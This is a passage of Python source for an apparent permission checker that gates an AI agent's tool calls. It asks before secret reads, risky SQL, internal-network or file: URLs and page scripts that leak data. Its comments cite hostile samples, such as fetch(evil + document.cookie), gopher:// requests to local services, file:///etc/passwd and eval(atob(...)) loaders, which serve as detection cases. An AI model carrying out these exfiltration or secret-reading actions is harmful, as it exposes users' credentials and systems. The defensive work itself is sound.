            # any server's change of consequence (probe round 29): access changed (a
            # collaborator, a deploy key, a webhook, branch protection, a repository made
            # public), money moved (a refund, a payout), what was stored erased (a record,
            # a page, a release), history rewritten (force, reset --hard), a pipeline
            # started: asked, as the command line doing it would be (BYPASS skips it)
            return self.decide(ASK, REASON_CONSEQUENCE.format(tool=self.tool, what=self.consequence()),
                               "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.mode != BYPASS and self.secret_read() is not None:
            # a Kubernetes Secret or a secret manager's value read (probe round 28): asked, as
            # kubectl get secret -o yaml is (BYPASS skips it, as it skips that)
            return self.decide(ASK, REASON_SECRET_READ.format(tool=self.tool, what=self.secret_read()), "mode_default",
                               row)
        elif row == "other_tools" and verdict == ALLOW and self.mode != BYPASS and self.risky_sql() is not None:
            # a database tool's SQL that reads the host's files, grants, runs built text or
            # drops a column: asked, as a risky command is (BYPASS skips it, as it skips those)
            return self.decide(ASK, REASON_RISKY_SQL.format(what=self.risky_sql()), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW:
            # another tool that fetches (mcp__fetch__fetch, an HTTP client, a browser), or
            # WebFetch with its address in other words (Gemini's web_fetch prompt): a
            # service of this network, or one of this machine's known admin ports (the
            # Docker API on 2375), in the spellings a browser or Node reads (http:10.0.0.5,
            # http://h\\x, leading blanks); a browser opening the agent's own dev server is
            # not asked; an address no one can read is
            leaves = list(self.arg_leaves())   # (a copy: addresses are added to it)
            if self.tool != "WebFetch":
                # an address without a scheme under an address's name ({"url":
                # "10.0.0.5:8080/admin"}, {"endpoint": "localhost:2375"}): as http://
                leaves.extend("http://" + v for v in _schemeless_addresses(self.args)
                              if not (self.browser and v.split(":", 1)[0].casefold() in _BROWSER_OTHER_SCHEMES))
            for v in leaves:
                if ":" not in v:
                    continue   # (no scheme, no address: the common case)
                for url in ([v] if self.tool != "WebFetch" else _URL_IN_TEXT.findall(v)):
                    if url[:5].casefold() == "file:" and not self.browser and self.fetches_url():
                        # mcp__fetch__fetch {"url": "file:///etc/passwd"}: a fetcher reading this
                        # machine's files, as a browser opening them (probe round 29)
                        why = self.browser_url_why(url.strip())
                        if why is not None:
                            return self.decide(ASK, why, "mode_default", row)
                        continue
                    other = _SSRF_URL.match(url) if self.tool != "WebFetch" else None
                    if other is not None:
                        # gopher://127.0.0.1:6379/_..., dict://, ldap://: protocols that
                        # speak to another service's port; any host of this machine or network
                        try:
                            host = authority_host(unquote(other.group(1)))
                        except (ValueError, UnicodeError):
                            host = None
                        if host is None or internal_host(host):
                            return self.decide(ASK, REASON_INTERNAL_URL.format(host=host or url[:100]), "mode_default",
                                               row)
                        continue
                    host, looks = lenient_url_host(url)
                    if looks and host is None and not (self.browser and _BLANK_PAGE.match(url)):
                        return self.decide(ASK, REASON_BAD_URL + f": {url[:200]}", "mode_default", row)
                    if host is not None and internal_host(host) and _sensitive_internal(host, url.strip()):
                        return self.decide(ASK, REASON_INTERNAL_URL.format(host=host), "mode_default", row)
                    if host is not None and "xn--" in host and confusable_host(host) is not None:
                        return self.decide(ASK, REASON_CONFUSABLE_HOST.format(host=host, alike=confusable_host(host)),
                                           "mode_default", row)
        reason = REASON_MODE_DEFAULT.format(mode=self.mode, verb=_VERB.get(verdict, verdict), what=_ROW_WHAT.get(row, row))
        if self.mode == BYPASS and verdict == ALLOW:
            # the audit trail says what bypass let through without asking (a write
            # outside the working directory is not "a file command in the working directory")
            skipped = self.risky_or_outside()
            if skipped is not None:
                reason = REASON_BYPASS_SKIPPED.format(what=_ROW_WHAT_ANYWHERE.get(row, row), reason=skipped.reason)
        return self.decide(verdict, reason, "mode_default", row)

    def ps_row(self) -> str | None:
        """(probe round 47, pwsh47) Claude Code's PowerShell tool in accept_edits: the Bash
        row its translation takes when the Bash tool's own call of it would be allowed by
        that row (a file command in the working directory, a build on the safe list), each
        statement's; else None (read-only or asked, as an MCP shell's: round 23). Only the
        mode's row is borrowed: the Bash call's allow rules are not (a Bash(...) rule is no
        PowerShell(...) rule), its asks and denials keep the PowerShell tool's ask."""
        row = self._ps_row
        if row is _MISSING:
            row = self._ps_row = self._ps_bash_row()
        return row

    def _ps_bash_row(self) -> str | None:
        if self.mode != ACCEPT_EDITS or self.tool != POWERSHELL_TOOL or self.tool in self.s.tools \
                or "Bash" not in self.s.bash_tools or self.inner:
            return None
        codes = self.shell_args()
        if not codes or len(codes) > 4 or self._code_args or self.shell_cwd() != self.cwd:
            return None
        line = self.args.get("command")
        if not isinstance(line, str) or powershell.runs_nested(line):
            return None   # (iex 'Remove-Item src', cmd /c, pwsh -c: as Bash's eval, cmd /c, pwsh -c)
        rows = set()
        for code in codes:
            if code.startswith("\x00"):
                return None
            ev = _Evaluation(self.s, dataclasses.replace(self.r, tool="Bash", args={"command": code}, tool_hash=None,
                                                         history=(), session_approvals=frozenset()), self.mode, "Bash")
            ev.inner = True
            ev.no_allow_rules = True
            ev._bash_key = None   # (no stage-2 memo: its answer here is without allow rules)
            d = ev.run()
            if d.decision != ALLOW:
                return None
            if d.check == "read_only":
                continue
            if d.check != "mode_default" or d.rule not in ("bash_file_commands", "bash_safe_build"):
                return None
            rows.add(d.rule)
        return "bash_file_commands" if "bash_file_commands" in rows else ("bash_safe_build" if rows else None)

    def fetches_url(self) -> bool:
        """WebFetch, WebSearch, a browser, or another tool named for fetching a URL."""
        return self.tool in ("WebFetch", "WebSearch") or self.browser or \
            _name_search(_FETCH_TOOL, self.tool.rsplit("__", 1)[-1]) is not None

    def sent_credential(self) -> str | None:
        """A literal credential in the arguments of a tool that sends them somewhere:
        WebFetch, WebSearch, an MCP resource's address, an MCP or custom tool (lower-case
        or mcp__ names); the agent's own built-ins (TodoWrite, Task...) keep their words.
        (Asked before the allow rules and again by the mode default: found once.)"""
        if self._sent_credential is _MISSING:
            self._sent_credential = self._find_sent_credential()
        return self._sent_credential

    def _find_sent_credential(self) -> str | None:
        if not (self.tool in ("WebFetch", "WebSearch", "ReadMcpResourceTool") or not _builtin_name(self.tool)):
            return None
        if _name_search(_THINKING_TOOL, self.tool.rsplit("__", 1)[-1]) is not None:
            return None   # (a thinking tool's thought goes back to the model, nowhere else)
        leaves = self.arg_leaves()
        browser = _name_search(_BROWSER_TOOL, self.tool) is not None
        maybe = may_hold_credential(self.joined_leaves())   # (one pass over every value first)
        for v in leaves:
            hit = credential_in(v) if maybe else None
            if hit is not None:
                return hit
            if browser and _PAGE_SECRET.search(v) and _PAGE_SEND.search(v) and not _same_origin_sends(v):
                # a page script that reads the session's cookies or storage and makes a
                # request (fetch(evil + document.cookie), an image's src, a beacon)
                return _PAGE_SECRET.search(v).group(0)
            if browser and "(" in v and _PAGE_URL_MAKERS.search(v) and _PAGE_SEND.search(v) \
                    and _PAGE_URL_MAKERS.search(_PAGE_LOOPBACK_URL.sub("", v)):
                # (probe round 36, benignnear36: an address of this machine written out,
                # fetch('http://127.0.0.1:8000/api/echo', {body: textarea.value}) to the
                # agent's dev server, is no other site: what it sends stays here)
                # (probe round 36, exfil36) ...or the page's text, a form's fields or a response
                # of its own API, with a request to an address the script writes out (fetch(evil,
                # {body: document.body.innerHTML}), a form's action set to another site and
                # submitted, fetch('/api/me') then fetch(evil + t)); one request that reads its
                # own answer (fetch('https://api...').then(r => r.json())) sends nothing it read
                hit = _PAGE_CONTENT.search(v)
                if hit is None and len(_PAGE_SEND.findall(v)) >= 2:
                    hit = _PAGE_RESPONSE_READ.search(v)
                if hit is not None:
                    return hit.group(0)
        if _name_search(_MESSAGE_TOOL, self.tool[:256]) and _password_word(self.joined_leaves()):
            # (probe round 49, tools49) a message, a post or an issue whose words give a
            # password ("the db password is Tr0ub4dor&3"): the secret leaves in its text
            for v in leaves:
                hit = prose_password(v)
                if hit is not None:
                    return hit
        return None

    @property
    def browser(self) -> bool:
        """A browser's tool: a browser MCP server's (puppeteer, playwright, chrome-devtools),
        Cline's browser_action, OpenHands' browser, Copilot's open_simple_browser."""
        if self._browser is None:
            self._browser = self.is_other and _browser_tool(self.tool)
        return self._browser

    def browser_url_risk(self) -> str | None:
        """Why a browser tool's URL (an argument, or one in its page code) or its page code
        needs a person; None when nothing does."""
        if self._browser_risk is _MISSING:
            self._browser_risk = None
            program = _browser_program(self.args)
            if program is not None:
                # (probe round 32, mcp32) Puppeteer's launchOptions.executablePath (or a
                # driver's binary) naming a program that is no browser: the call runs it
                self._browser_risk = REASON_BROWSER_PROGRAM.format(program=program[:200])
                return self._browser_risk
            leaves = self.arg_leaves()
            for v in leaves:
                if "(" in v and _PAGE_DECODED_CODE.search(v[:100_000]):
                    # eval(atob('...')), new Function(unescape(...)): page code that runs text it
                    # decodes first (what it fetches or sends is not in the call)
                    self._browser_risk = REASON_BROWSER_HIDDEN_CODE
                    break
                if ":" not in v:
                    continue
                why = next((w for w in map(self.browser_url_why, _browser_urls(v)) if w is not None), None)
                if why is not None:
                    self._browser_risk = why
                    break
        return self._browser_risk

    def webfetch_shape(self) -> str | None:
        """(probe round 49, tools50) Why a WebFetch call is not the shape read (url, prompt):
        an argument it does not take, no url string, a file: address in its prompt."""
        if not isinstance(self.args.get("url"), str):
            return REASON_BAD_URL + ": WebFetch names no address as its url"
        for k, v in list(self.args.items())[:_ARGS_ITEMS]:
            if k == "url" or not isinstance(v, (str, list)):
                continue
            for x in (v if isinstance(v, list) else [v])[:_ARGS_ITEMS]:
                if not isinstance(x, str) or ":" not in x:
                    continue
                # (round 33: another argument's address is read: a file: one, or one of the
                # browser's own schemes, opens what is no web page; the prompt's file: too)
                for url in (_FILE_URL_IN_TEXT.findall(x[:100_000]) if k == "prompt" else [x.strip()]):
                    why = self.browser_url_why(url)
                    if why is not None:
                        return why
        return None

    def browser_session_read(self) -> str | None:
        """(probe round 49, tools50) What of the signed-in session a browser tool reads back:
        its name's (get_cookies, storage_state) or its page code's (document.cookie,
        localStorage, context().cookies(), storageState()); writes of them read nothing."""
        last = self.tool.rsplit("__", 1)[-1][:128]
        m = _SESSION_TOOL.search(last)
        if m is not None and not _SESSION_TOOL_WRITES.intersection(_op_words(last)):
            return last
        for k, v in list(self.args.items())[:_ARGS_ITEMS]:
            # (the page code's arguments: text typed into a field, "localStorage tutorial", is no read)
            if not isinstance(k, str) or not isinstance(v, str) or dialects.canon(k) not in _PAGE_CODE_KEYS \
                    or not _PAGE_SECRET.search(v[:100_000]):
                continue
            code = _PAGE_SECRET_WRITES.sub(" ", v[:100_000])
            if _PAGE_SEND.search(code):
                continue   # (a request of its own origin uses the session, round 21; another's is sent_credential's)
            code = _PAGE_SECRET_COUNTED.sub(" ", _PAGE_NAMED_ITEM.sub(" ", code))
            for m in _PAGE_SESSION_VAR.finditer(code):
                # (const c = await page.context().cookies(); return c.length: a count, round 32)
                uses = re.findall(r"\b" + re.escape(m.group(1)) + r"\b(\s*\.\s*length\b)?", code[m.end():])
                if all(u for u in uses):
                    code = code[:m.start()] + " " * (m.end() - m.start()) + code[m.end():]
            hit = _PAGE_SECRET.search(code)
            if hit is not None:
                return hit.group(0)
        return None

    def browser_url_why(self, url: str, depth: int = 0) -> str | None:
        m = _URL_SCHEME.match(url)
        if m is None:
            return None
        scheme = m.group(1).casefold()
        rest = url[m.end():]
        if scheme == "view-source" and depth < 3:
            return self.browser_url_why(rest.strip(), depth + 1)
        if scheme in ("http", "https", "ws", "wss"):
            host, looks = lenient_url_host(url)
            if looks and host is None:
                return REASON_BAD_URL + f": {url[:200]}"
            if host is not None and internal_host(host) and _sensitive_internal(host, url.strip()):
                return REASON_INTERNAL_URL.format(host=host)
            return None
        if scheme == "file":
            for p in self.tool_path(url):
                if not self.inside_project(p):
                    return REASON_BROWSER_FILE.format(path=p)
            return None
        if _BLANK_PAGE.match(url):
            return None
        if scheme in _BROWSER_OTHER_SCHEMES or scheme.endswith("-extension"):
            return REASON_BROWSER_SCHEME.format(scheme=scheme, url=url[:120])
        return None

    def inside_project(self, p: str) -> bool:
        base = (self.base or self.cwd or "").rstrip("/")
        return bool(base) and (p == base or p.startswith(base + "/"))

    def infra_change(self) -> str | None:
        """The verb of a cloud or infrastructure tool's named change (its name's words, see
        _infra_verb), unless the call carries a command line that is judged itself
        (mcp__gcloud__run_gcloud_command {"command": "gcloud ... list"}, a pod's exec)."""
        verb = _infra_verb(self.tool)
        if verb is None and _infra_tool(self.tool):
            verb = _infra_operation_arg(self.args)
        if verb is None:
            # (Amazon Q's use_aws in a shape dialects.py does not read: whatever AWS call it is)
            return "an AWS call whose arguments are not read" if dialects.canon(self.tool) == "useaws" else None
        if self.shell_args() and not _container_creator(self.tool):
            # (a remote shell's line too: its reads there are the other-tools row, round 23;
            # not a new container's command: the container made is the change, probe round 32)
            return None
        return verb

    def consequence(self) -> str | None:
        """What makes another tool's call a change of consequence (_consequence_verb,
        _consequence_args), or None; an MCP file tool's work on files here is the edit row's."""
        if self._consequence is _MISSING:
            self._consequence = None
            if not (self.is_bash or self.is_read or self.is_edit or _builtin_name(self.tool)) \
                    and _name_search(_THINKING_TOOL, self.tool.rsplit("__", 1)[-1]) is None:
                what = _consequence_verb(self.tool) or _consequence_args(self.args, self.tool)
                if what is not None and not (self.shell_args() or _FILE_OP_WORDS.intersection(_op_words(self.tool.rsplit("__", 1)[-1]))
                                             and not self.remote_place()):
                    self._consequence = what
        return self._consequence

    def remote_place(self) -> bool:
        """Arguments that place the call's object in a hosted service, not on this machine."""
        server = self.tool.split("__")[1] if self.tool.count("__") >= 2 else ""
        return bool(_HOSTED_SERVER.search(server)) and any(
            isinstance(k, str) and k.lower() in _REMOTE_KEYS for k in self.args)

    def secret_read(self) -> str | None:
        """A Secret's value read through another tool: a generic infrastructure read whose
        kind is Secret (mcp__kubernetes__kubectl_get {"resourceType": "secret"},
        mcp__k8s__get_resource {"kind": "Secret"}), or a tool named for reading a secret
        (secretsmanager_get_secret_value, read_secret). Asked as `kubectl get secret` is;
        pods, deployments and logs stay reads."""
        if self.is_read or self.is_edit or _builtin_name(self.tool) or self.shell_args():
            return None   # (a command line is judged as Bash: kubectl get secret asks there)
        if _secret_tool(self.tool):
            return self.tool.split("__")[-1]
        if not _infra_tool(self.tool):
            return None   # (a memory's or a search's "type": "secret" is a word, not a kind)
        return _secret_kind_arg(self.args)

    def sql_paths(self) -> list[str]:
        """The host files a database tool's SQL reads through file functions
        (destructive.sql_file_paths); empty for any other tool."""
        if not self.tool.startswith("mcp__") and _builtin_name(self.tool):
            return []
        runner, prose_tool, searcher, sql_name = _tool_traits(self.tool)
        keys = [k for k in self.args if _sql_arg(k, searcher) and k.lower() not in _PROSE_KEYS]
        if not (sql_name or keys):
            return []
        leaves: list[str] = []
        _string_leaves(self.args if sql_name else {k: self.args[k] for k in keys}, leaves)
        return [p for v in leaves if ("'" in v or '"' in v) for p in destructive.sql_file_paths(v)]

    def risky_sql(self) -> str | None:
        """What a database tool's SQL does that a person should see first (destructive.risky_sql)."""
        if self._risky_sql is _MISSING:
            self._risky_sql = None
            runner, prose_tool, searcher, sql_name = _tool_traits(self.tool)
            keys = [k for k in self.args if _sql_arg(k, searcher) and k.lower() not in _PROSE_KEYS]
            if (self.tool.startswith("mcp__") or not _builtin_name(self.tool)) and (sql_name or keys):
                leaves: list[str] = []
                # (a database tool's every argument may be SQL: mcp__postgres__query {"text"})
                _string_leaves(self.args if sql_name else {k: self.args[k] for k in keys}, leaves)
                for v in leaves:
                    what = destructive.risky_sql(v)
                    if what:
                        self._risky_sql = what
                        break
        return self._risky_sql

    # -- stage 3 ---------------------------------------------------------------------------
    def subject(self) -> str:
        """What an ask is about, so that its reason (the session cache key) is narrow."""
        if self.is_bash:
            return _short_subject(self.command or "")
        if self.tool == "WebSearch" and isinstance(self.args.get("query"), str):
            return _short_subject(self.args["query"])   # (its query, not the directory it reads none of)
        if self.is_read or self.is_edit:
            return _short_subject(", ".join(self.file_paths()))
        if self.tool == "WebFetch" and isinstance(self.args.get("url"), str):
            return _short_subject(self.args["url"])
        return _short_subject(f"{self.tool} {_json_text(dict(self.args))}")

    def stage3(self, d: Decision) -> Decision:
        if d.decision != ASK:
            return d
        # the reason names what is asked about (one Decision is made, below)
        reason = d.reason
        subject = self.subject()
        if subject and subject not in reason:
            reason = f"{reason}: {subject}"
        if self.mode == EXPLORE:
            # explore asks no one (an operator ask rule, any check that kept its ask):
            # denied, as every other ask is there (the mode narrows, never widens)
            # (every field of Decision in order, as decide() builds it)
            return _new_decision(DENY, REASON_EXPLORE_ASK.format(reason=reason), d.check, d.rule, d.flags,
                                 d.threat_events, (), False, d.bypass_immune, d.mode, d.details)
        if self.mode == DONT_ASK:
            return _new_decision(DENY, REASON_DONT_ASK.format(reason=reason), "dont_ask", d.rule, d.flags,
                                 d.threat_events, (), False, d.bypass_immune, d.mode, d.details)
        if not d.bypass_immune and (self.tool, reason) in self.r.session_approvals:
            return _new_decision(ALLOW, REASON_SESSION.format(reason=reason), SESSION_CHECK, d.rule, d.flags,
                                 d.threat_events, (), False, False, d.mode, d.details)
        if self.no_suggestions or d.bypass_immune:
            sugg = ()
        else:
            key = self.bash_key("suggestions")
            sugg = None if key is None else self.s.memo.get(key)
            if sugg is None:
                sugg = tuple(self.suggestions())
                ok = bool(sugg) and self.suggestions_allow(sugg)
                if sugg and not ok:
                    if self.is_bash:
                        # a build pointed elsewhere (cargo build --manifest-path /x/Cargo.toml):
                        # only a rule that writes the whole command covers it
                        sugg = tuple(self.suggestions(exact=True))
                    else:
                        # the call as written: PowerShell's command (a rule on a PowerShell tool
                        # is read as its code), another tool's exact arguments (WebSearch)
                        code = self.args.get("command") if self.tool == "PowerShell" else None
                        sugg = (f"PowerShell({code})",) if isinstance(code, str) and code.strip() \
                            else (json_suggestion(self.tool, self.args),)
                    ok = bool(sugg) and self.suggestions_allow(sugg)
                if sugg and not ok:
                    # a rule that would not allow this very call (cd /tmp && git commit
                    # under Bash(git commit:*), PATH=... set before it, a build pointed
                    # elsewhere): offered to no one, as it would change nothing
                    sugg = ()
                if key is not None:
                    _remember(self.s.memo, key, sugg)
        return _new_decision(d.decision, reason, d.check, d.rule, d.flags, d.threat_events, sugg, d.llm,
                             d.bypass_immune, d.mode, d.details)

    def suggestions_allow(self, sugg: tuple[str, ...]) -> bool:
        """Accepted as allow rules, the suggestions allow this same call at step 4 (with
        the allow rules the policy holds already: a part one of them covers gets none)."""
        try:
            rules = [allow_rule_of(t) for t in sugg]
        except EngineError:
            return False
        try:
            held = [r for r in self.rules_for("allow")
                    if (r.tool == "Bash" if self.is_bash else r.kind == "glob")]
            return self.allow_rule(only=rules + held) is not None
        except Exception:  # noqa: BLE001 - a suggestion that cannot be checked is not offered
            return False

    def suggestions(self, exact: bool = False) -> Iterable[str]:
        if self.is_bash:
            a = self.analysis
            if a is None or not a.parsed or a.dynamic:
                return []
            out = []
            read_only = [self.part_read_only(c) for c in a.commands]
            # a part an allow rule of the policy covers already needs none (npm run build
            # && npm publish after Bash(npm run:*) was approved: Bash(npm publish:*), not
            # the stored rule again, which a reviewer would approve for ever)
            held = [r for r in self.rules_for("allow") if r.tool == "Bash"]
            # a part on seed 000's ask list (a force push, git reset --hard, docker run,
            # sudo...) gets the command as written: approving one force push "always"
            # approves that push, not every `git push` (Bash(git push:*) would be both)
            risky_parts = {f.part for f in a.risky}
            for c, ro in zip(a.commands, read_only):
                if not self.part_allowable(c):
                    return []
                if ro and not all(read_only):
                    continue   # (as Claude Code saves: a rule for each part that needs one)
                if held and self.part_rule(c, held) is not None:
                    continue
                if _program_on_stdin(c) or _writes_by_redirect_only(c):
                    return []
                s = bash_suggestion(c.written, exact or (bool(risky_parts) and " ".join(c.argv) in risky_parts))
                if s is None:
                    return []
                out.append(s)
            return list(dict.fromkeys(out))
        if self.tool in NAMED_TOOLS:
            # the subagent, skill or slash command the call names (Agent(Explore),
            # Skill(commit), SlashCommand(/review-pr 12)); "*" in a name would be a wildcard
            names = call_names(self.tool, self.args)
            if not names or "*" in names[0] or any(c in names[0] for c in "\n\r\x00"):
                return []
            return [f"{self.tool}({'/' if self.tool == 'SlashCommand' else ''}{names[0]})"]
        if self.is_read or self.is_edit:
            # (a path an allow rule of the policy covers already needs none)
            held = [r for r in self.rules_for("allow") if r.kind == "glob"]
            paths = [p for p in self.file_paths()
                     if not any(glob_matches(r, p, cwd=self.base, home=self.home, fold=False) for r in held)]
            return [s for s in (file_suggestion(self.tool, p, cwd=self.base) for p in paths) if s]
        if self.tool == "WebFetch":
            host = url_host(self.args.get("url"))
            if host and ":" in host:
                return [f"WebFetch(domain:[{host}])"]   # an IPv6 address, as a URL writes it
            return [f"WebFetch(domain:{host})"] if host else []
        return [json_suggestion(self.tool, self.args)]
